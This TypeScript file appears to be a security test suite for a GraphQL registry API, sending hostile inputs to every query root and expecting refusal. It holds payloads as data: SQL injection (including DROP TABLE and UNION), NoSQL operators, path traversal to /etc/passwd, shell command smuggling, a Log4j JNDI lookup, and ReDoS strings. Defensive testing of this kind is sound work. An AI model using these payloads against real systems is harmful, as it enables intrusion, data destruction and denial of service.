import { ask } from '../tools/ask.ts';
import type { Attack, Target } from '../tools/attack.ts';

/** Each root that is asked by a code, with the type of its argument. */
const roots: readonly (readonly [root: string, argument: string, type: string, selection: string])[] = [
  ['person', 'idNumber', 'CitizenId!', 'name'],
  ['household', 'number', 'String!', 'number'],
  ['enterprise', 'uscc', 'SocialCreditCode!', 'name'],
  ['nameDeclaration', 'number', 'String!', 'name'],
  ['division', 'code', 'DivisionCode!', 'name'],
  ['address', 'code', 'ID!', 'text'],
  ['parcel', 'code', 'ParcelCode!', 'location'],
  ['building', 'number', 'ID!', 'number'],
  ['realEstateUnit', 'unitCode', 'RealEstateUnitCode!', 'unitCode'],
  ['leaseFiling', 'number', 'String!', 'number'],
  ['constructionProject', 'code', 'String!', 'code'],
  ['license', 'identifier', 'LicenseIdentifier!', 'name'],
  ['licenseType', 'code', 'String!', 'name'],
  ['matter', 'code', 'String!', 'code'],
];

/** Asks every root for one value, a request each. */
const everywhere = (value: unknown) => (target: Target) =>
  Promise.all(
    roots.map(([root, argument, type, selection]) =>
      ask(target, {
        query: `query ($v: ${type}) { ${root}(${argument}: $v) { ${selection} } }`,
        variables: { v: value },
      }),
    ),
  );

const injection = (id: string, title: string, value: unknown, expect: Attack['expect'] = 'refused'): Attack => ({
  id: `injections/${id}`,
  title,
  send: everywhere(value),
  expect,
});
const search = (id: string, title: string, value: string, more: Partial<Attack> = {}): Attack => ({
  id: `searches/${id}`,
  title,
  send: (target) =>
    Promise.all([
      ask(target, { query: 'query ($v: String) { enterprises(name: $v) { totalCount } }', variables: { v: value } }),
      ask(target, { query: 'query ($v: String!) { addresses(text: $v) { totalCount } }', variables: { v: value } }),
      ask(target, {
        query: 'query ($v: String!) { addresses(text: $v, match: PREFIX) { totalCount } }',
        variables: { v: value },
      }),
      ask(target, { query: 'query ($v: String) { matters(search: $v) { totalCount } }', variables: { v: value } }),
      ask(target, { query: 'query ($v: String!) { namesakeCount(name: $v) }', variables: { v: value } }),
    ]),
  expect: 'harmless',
  ...more,
});
/** A sign that stands for any other would find everything. */
const findsNothing: Partial<Attack> = {
  also: (replies) => {
    const found = replies.find(({ body }) => /"(?:totalCount|namesakeCount)":[1-9]/.test(body));
    return found && `a search found what does not hold its text: ${found.body.slice(0, 200)}`;
  },
};
const cursor = (id: string, title: string, after: string): Attack => ({
  id: `cursors/${id}`,
  title,
  send: (target) =>
    Promise.all([
      ask(target, {
        query: 'query ($v: String) { enterprises(after: $v) { nodes { name } } }',
        variables: { v: after },
      }),
      ask(target, {
        query: 'query ($v: String) { licenseTypes(after: $v) { nodes { name } } }',
        variables: { v: after },
      }),
      ask(target, { query: 'query ($v: String) { matters(after: $v) { nodes { code } } }', variables: { v: after } }),
      ask(target, {
        query: 'query ($v: String) { addresses(text: "上海", after: $v) { nodes { text } } }',
        variables: { v: after },
      }),
    ]),
  expect: 'refused',
});
const base64 = (value: unknown) =>
  Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');

/** Values that mean something to what stands behind: to SQL, to a search, to a pattern, to a path. */
export const injections: readonly Attack[] = [
  injection('always-true', 'every code is closed and followed by a condition that always holds', "' OR '1'='1' -- "),
  injection(
    'second-statement',
    'every code is followed by a statement that drops a table',
    "'; DROP TABLE person; -- ",
  ),
  injection(
    'union',
    'every code is followed by a union with the list of tables',
    "x' UNION SELECT name, sql FROM sqlit_master -- ",
  ),
  injection(
    'by-time',
    'every code is followed by work that shows in the time',
    "' AND 1=randomblob(1000000000/2) AND sleep(5) -- ",
  ),
  injection('double-quote', 'every code closes a name of SQL', '") OR ("a"="a'),
  injection('json-path', 'every code closes a JSON text, which keys may travel in', '"],["'),
  injection('operators', 'every code is an object of operators', { $gt: '', $where: 'sleep(5000)' }),
  injection('path', 'every code is a path out of the folder', '../../../../etc/passwd'),
  injection('template', 'every code is a template', `\${7*7}{{7*7}}#{7*7}<%= 7*7 %>`),
  injection('command', 'every code is a command', '$(sleep 5)`sleep 5`|sleep 5'),
  injection('shell-shock', 'every code is a look-up of Log4j', `\${jndi:ldap://198.51.100.1/a}`),
  injection('prototype', 'every code is __proto__', '__proto__'),
  injection('constructor', 'every code is constructor', 'constructor'),
  injection('null-byte', 'every code ends in a null byte', '91310101MB000F01XU\u0000'),
  injection('line-break', 'every code ends in a line break', '91310101MB000F01XU\n'),
  injection('wide-digits', 'every code is of full-width digits', '３１０１０４１９８８０４０９９１２３'),
  injection('empty', 'every code is empty', ''),
  injection('digits-of-200-kB', 'every code has two hundred thousand digits and a letter', `${'1'.repeat(200_000)}X`),
  injection('dots-of-200-kB', 'every code has fifty thousand groups of digits with dots', `${'1.'.repeat(50_000)}x`),
  injection('spaces-of-200-kB', 'every code has two hundred thousand spaces', `3${' '.repeat(200_000)}1`),
  injection(
    'pattern-that-backtracks',
    'every code lets a careless pattern try all ways',
    `${'1.2.156.3005.2.'.repeat(2_000)}!`,
  ),
  injection('fifteen-zeros', 'every code is the first generation number of nobody', '0'.repeat(15)),
  injection('eighteen-nines', 'every code has a date that no calendar has', '999999999999999999'),
  injection('negative', 'every code is a number below nought', '-310104198804099123'),
  injection('exponent', 'every code is a number with an exponent', '3.1e17'),
  search('percent', 'the sign of SQL for anything, two of them', '%%', findsNothing),
  search('underscore', 'the sign of SQL for any character, two of them', '__', findsNothing),
  search('glob', 'the signs of GLOB', '*?[a-z]', findsNothing),
  search('escaped-percent', 'an escape before the sign for anything', '\\%\\', findsNothing),
  search('full-text-operators', 'operators of a full-text search', '" OR name:* NEAR(a b', findsNothing),
  search('many-percents', 'a pattern of fifty signs for anything', '%a'.repeat(50), findsNothing),
  search('one-character', 'a single character, to be found everywhere', '上'),
  search('null-byte', 'a null byte', 'a\u0000b'),
  search('expanding', 'ligatures that become eighteen characters each', 'ﷺ'.repeat(100)),
  search('direction', 'marks that turn the direction of writing', '\u202e\u2066上海\u2069'),
  search('emoji', 'a family of emoji', '👨‍👩‍👧‍👦'.repeat(9)),
  search('of-200-kB', 'a text of two hundred kilobytes', '路'.repeat(60_000)),
  cursor('rubbish', 'a cursor that is none', 'x'),
  cursor('sql', 'a cursor with SQL', base64("['' OR 1=1 --']")),
  cursor('object', 'a cursor that is an object', base64({ __proto__: null, constructor: 1, name: { $gt: '' } })),
  cursor('list', 'a cursor of values of other kinds', base64([[], {}, null, true, 1e308])),
  cursor('deep', 'a cursor of ten thousand levels', base64('['.repeat(10_000) + ']'.repeat(10_000))),
  cursor('long', 'a cursor of two hundred kilobytes', 'QUFB'.repeat(50_000)),
  cursor('bytes', 'a cursor of bytes that are no text', Buffer.from([0xff, 0xfe, 0, 0xc0, 0x80]).toString('base64url')),
];
